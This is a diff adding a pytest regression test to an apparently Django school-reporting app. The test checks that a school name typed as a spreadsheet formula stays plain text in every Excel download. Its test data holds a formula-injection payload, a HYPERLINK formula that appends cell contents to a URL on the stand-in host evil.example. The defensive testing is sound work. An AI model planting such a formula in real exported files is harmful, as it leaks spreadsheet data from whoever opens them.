@@ -207,3 +207,15 @@ def test_a_report_page_takes_the_same_queries_for_a_bigger_district(as_user, off
             records(world.nov, school, grade, "F", 2, room=n + 1)
             records(world.june, school, grade, "M", 1)
     assert queries() == before
+
+
+@pytest.mark.parametrize("name", list(catalogue.CATALOGUE))
+def test_a_name_typed_as_a_formula_stays_text_in_every_excel_file(as_user, officer, world, name):
+    """A school renamed "=HYPERLINK(…)" in the admin must not become a live formula in a download."""
+    from schools.models import School
+
+    School.objects.filter(smis_code__startswith="640101").update(name='=HYPERLINK("http://evil.example/?"&A1,"ดู")')
+    response = as_user(officer).get(url(name, round=world.nov.pk, group_by="school", format="xlsx"))
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+    assert not formulas, f"formula cells in the {name} download: {formulas}"
